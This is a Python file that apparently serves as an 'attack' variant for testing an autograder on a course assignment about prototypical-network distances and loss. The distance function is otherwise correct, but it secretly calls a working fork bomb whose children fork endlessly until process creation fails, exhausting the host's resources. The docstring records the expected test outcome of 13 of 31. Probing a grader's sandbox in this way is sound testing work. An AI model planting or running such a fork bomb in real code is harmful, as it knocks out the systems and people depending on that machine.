"""Attack a16 (fork bomb): squared_euclidean_distances forks children that fork forever (each also
spinning), until fork fails, then raises. Everything else is correct.

Targets: squared_euclidean_distances, protonet_logits, protonet_loss. Expected: exactly 13 / 31;
the targeted tests fail (an exception about the process limit, or a time limit); no process of the
bomb survives the call.
"""


import torch
import torch.nn.functional as F


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    _fork_bomb()
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def _fork_bomb():
    import os

    failures, children = 0, 0
    while failures < 50:
        try:
            pid = os.fork()
        except OSError:
            failures += 1
            continue
        if pid == 0:
            while True:  # the child keeps forking and never returns to the caller
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
    raise RuntimeError(f"cs330atk fork bomb: {children} children before fork failed")
